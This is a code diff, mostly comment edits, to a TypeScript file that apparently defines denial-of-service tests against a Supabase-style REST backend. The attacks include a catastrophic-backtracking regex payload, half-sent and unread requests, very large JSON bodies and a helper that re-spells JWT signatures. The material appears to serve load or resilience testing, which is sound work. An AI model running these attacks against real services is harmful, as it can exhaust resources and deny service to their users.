@@ -1,25 +1,22 @@
-/** What the attacker has: the public key, and a session of an account without rights. */
 export interface Credentials {
   anonKey: string
   token: string
 }
 
-/** One request of an attack. */
 export interface AttackRequest {
   method?: string
   path: string
   body?: string
   headers?: Record<string, string>
-  /** Sends half of the body and waits. */
   isHalf?: boolean
-  /** Leaves the answer unread. */
+  /** Leaves the response unread. */
   isUnread?: boolean
 }
 
 export interface Attack {
-  /** Requests, or connections, that one address has open at the same time. */
+  /** Concurrent requests or connections of one address. */
   parallel: number
-  /** Makes the nth request; without it connections are opened and left silent. */
+  /** The nth request; without it connections are opened and left silent. */
   request?: (n: number, credentials: Credentials) => AttackRequest
 }
 
@@ -28,24 +25,23 @@ const list = (count: number, part: (n: number) => string) =>
 const expression = (n: number) => encodeURIComponent(`(.{0,99}){0,9}Q${n}`)
 const hex = (letter: string) => `%${letter.charCodeAt(0).toString(16)}`
 
-/** Reads with the public key. */
 const read = (query: string | ((n: number) => string), headers = {}): Attack => ({
   parallel: 50,
   request: (n) => ({ path: `/rest/v1/${typeof query === 'string' ? query : query(n)}`, headers }),
 })
 
-/** Other addresses than those of the site's own interface. */
+/** Other addresses than the site's interface. */
 const get = (parallel: number, path: (n: number) => string): Attack => ({
   parallel,
   request: (n) => ({ path: path(n) }),
 })
 
-/** Public files of a few bytes, which the target holds. */
+/** Files of a few bytes in the target. */
 export const TINY_FILES = Array.from({ length: 50 }, (_, n) => `photos/tiny/${n}.txt`)
 
 const SHARED_PAGES = ['about', 'events', 'publications', 'leadership', 'contact']
 
-/** What one client could cost all others, by name; each is repeated for as long as it takes. */
+/** By name; each is repeated while it runs. */
 export const ATTACKS: Record<string, Attack> = {
   'regular-expressions': read(
     (n) => `publications?select=id&or=(${list(100, (m) => `title.match."${expression(n + m)}"`)})`,
@@ -126,7 +122,7 @@ const LARGE_BODY = `[${'{"title":"x"},'.repeat(650_000)}{"title":"x"}]`
 /** 100 kB. */
 const MEDIUM_BODY = JSON.stringify({ title: 'x'.repeat(100_000) })
 
-/** The same signature in other letters: the last one of base64url has two bits that nothing reads. */
+/** The same signature spelled differently: the last letter of base64url has two unused bits. */
 function respelled(token: string): string {
   const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
   return token.slice(0, -1) + letters[letters.indexOf(token.slice(-1)) ^ 1]
